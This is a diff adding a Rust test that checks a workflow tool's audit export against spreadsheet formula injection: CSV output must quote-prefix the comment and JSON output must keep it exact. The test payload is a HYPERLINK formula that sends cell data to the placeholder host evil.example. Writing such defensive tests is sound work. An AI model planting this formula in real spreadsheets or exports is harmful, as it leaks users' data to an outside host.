@@ -399,3 +399,57 @@ fn a_csv_export_for_excel_begins_with_a_byte_order_mark() {
         "{body}"
     );
 }
+
+/// A comment that begins like a formula reaches Excel as text: every CSV export (with or
+/// without the byte-order mark) puts a single quote before it; the JSON export keeps it exact.
+#[test]
+fn formula_cells_are_neutralised_in_csv_and_exact_in_json() {
+    let (_dir, data, ids) = setup();
+    let hostile = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")";
+    let runtime = tokio::runtime::Runtime::new().expect("runtime");
+    runtime.block_on(async {
+        let engine = Engine::open(config(&data)).await.expect("opens");
+        engine
+            .fire(
+                &ids[1],
+                Fire::new("approve", Actor::new("li", ["order_dept"])).comment(hostile),
+            )
+            .await
+            .expect("fires");
+    });
+    drop(runtime);
+    let export = |args: &[&str]| {
+        let out = Command::new(env!("CARGO_BIN_EXE_sopflow"))
+            .args(["audit", "export", "--actor", "li"])
+            .args(args)
+            .arg("--data-dir")
+            .arg(&data)
+            .current_dir(env!("CARGO_MANIFEST_DIR"))
+            .output()
+            .expect("runs");
+        assert_eq!(out.status.code(), Some(0));
+        String::from_utf8(out.stdout).expect("utf-8")
+    };
+    for args in [&["--format", "csv", "--bom"][..], &["--format", "csv"][..]] {
+        let text = export(args);
+        let body = text.trim_start_matches('\u{feff}');
+        let mut reader = csv::Reader::from_reader(body.as_bytes());
+        let comments: Vec<String> = reader
+            .records()
+            .map(|r| r.expect("a row")[14].to_string())
+            .collect();
+        assert!(
+            comments.contains(&format!("'{hostile}")),
+            "{args:?}: {comments:?}"
+        );
+        assert!(!comments.iter().any(|c| c.starts_with('=')), "{args:?}");
+    }
+    let rows: Value = serde_json::from_str(&export(&["--format", "json"])).expect("JSON");
+    assert!(
+        rows.as_array()
+            .expect("rows")
+            .iter()
+            .any(|r| r["comment"] == hostile),
+        "{rows}"
+    );
+}
